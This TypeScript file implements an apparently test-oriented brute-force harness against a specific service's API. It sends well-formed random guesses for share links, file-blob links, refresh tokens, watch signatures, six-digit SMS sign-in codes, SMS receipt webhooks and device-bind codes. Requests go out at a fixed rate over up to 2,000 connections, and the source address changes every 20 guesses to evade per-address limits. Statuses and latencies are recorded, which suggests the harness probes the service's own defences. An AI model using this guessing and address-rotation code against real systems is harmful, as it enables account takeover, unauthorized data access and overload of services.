import { randomBytes, randomInt, randomUUID } from 'node:crypto';
import type { Socket } from 'node:net';
import {
  getRequest,
  jsonRequest,
  openConnection,
  randomAddress,
  StatusCounts,
  statusOf,
  type AttackTarget,
} from './raw-client.js';

/** Number of guesses from one address; the following guesses come from another address. */
const GUESSES_PER_ADDRESS = 20;
const SEND_TIMER_INTERVAL_MS = 10;
/** Number of different guesses per operation; the guesses are repeated in order. */
const PREPARED_GUESSES_PER_OPERATION = 256;
const MAX_CONNECTIONS = 2_000;

const randomToken = (bytes: number): string => randomBytes(bytes).toString('base64url');

const sixDigits = (): string => String(randomInt(10 ** 6)).padStart(6, '0');

/**
 * Creates requests that guess share links, file links, refresh tokens, watch signatures, SMS codes, signatures of SMS
 * receipts and, with the accounts of the attacker, bind codes. Each guess is well-formed, so that the service has to
 * look it up.
 */
const GUESSES_BY_OPERATION: readonly ((token: string) => Buffer)[] = [
  () => getRequest(`/share/${randomToken(32)}`),
  () => getRequest(`/app-api/mcdisk/blob/${randomToken(64)}`),
  () => jsonRequest('/apis/v2/userctx/user/account/token/refresh', { refreshToken: randomToken(32) }),
  () =>
    jsonRequest('/apis/v2/userctx/watch/token/create', { did: 42, nonce: randomToken(32), signature: randomToken(64) }),
  () => jsonRequest('/apis/v2/userctx/user/account/sign-in', { challengeId: randomUUID(), code: sixDigits() }),
  () => jsonRequest('/apis/v2/userctx/sms/receipt/webhook', { messageId: randomUUID(), state: 'DELIVERED' }),
  (token) => {
    const body = { bindCode: randomToken(16), confirmCode: sixDigits(), cid: randomUUID() };
    return jsonRequest('/apis/v2/userctx/user/device/bind', body, token);
  },
];

interface GuessingConnection {
  socket: Socket;
  remainingGuesses: number;
  sentAt: number;
}

/**
 * Sends guesses at a fixed rate from changing addresses, one at a time per connection. If no connection is idle, the
 * next guess is sent over a new connection.
 */
export class Guesses {
  readonly statuses = new StatusCounts();
  readonly latencies: number[] = [];
  sentCount = 0;
  /** Number of addresses that have sent guesses. */
  addressCount = 0;
  private readonly idleConnections: GuessingConnection[] = [];
  private connectionCount = 0;
  private readonly preparedGuesses: readonly Buffer[];
  private startedAt = 0;
  private sentOrSkippedCount = 0;

  constructor(
    private readonly target: AttackTarget,
    private readonly perSecond: number,
    tokens: readonly string[],
  ) {
    this.preparedGuesses = Array.from({ length: PREPARED_GUESSES_PER_OPERATION }, (_, index) => index).flatMap(
      (index) => GUESSES_BY_OPERATION.map((create) => create(tokens[index % tokens.length] ?? '')),
    );
  }

  start(): void {
    this.startedAt = performance.now();
    setInterval(() => this.sendDue(), SEND_TIMER_INTERVAL_MS);
  }

  private sendDue(): void {
    const due = Math.floor(((performance.now() - this.startedAt) * this.perSecond) / 1_000);
    for (; this.sentOrSkippedCount < due; this.sentOrSkippedCount += 1) {
      const connection = this.idleConnections.shift();
      if (connection) this.send(connection);
      else if (this.connectionCount < MAX_CONNECTIONS) this.open();
    }
  }

  /** Opens a connection from another address and sends the first guess over it at once. */
  private open(): void {
    this.connectionCount += 1;
    this.addressCount += 1;
    const socket = openConnection(this.target, randomAddress());
    const connection = { socket, remainingGuesses: GUESSES_PER_ADDRESS, sentAt: 0 };
    let isOpen = true;
    socket.on('data', (bytes: Buffer) => {
      const status = statusOf(bytes);
      if (status === undefined) return;
      this.statuses.add(status);
      this.latencies.push(performance.now() - connection.sentAt);
      if (connection.remainingGuesses > 0) this.idleConnections.push(connection);
      else socket.destroy();
    });
    socket.once('close', () => {
      if (connection.remainingGuesses > 0) this.statuses.add('connection closed');
      if (isOpen) this.connectionCount -= 1;
      isOpen = false;
      const index = this.idleConnections.indexOf(connection);
      if (index !== -1) this.idleConnections.splice(index, 1);
    });
    this.send(connection);
  }

  private send(connection: GuessingConnection): void {
    connection.remainingGuesses -= 1;
    connection.sentAt = performance.now();
    connection.socket.write(this.preparedGuesses[this.sentCount % this.preparedGuesses.length] as Buffer);
    this.sentCount += 1;
  }
}
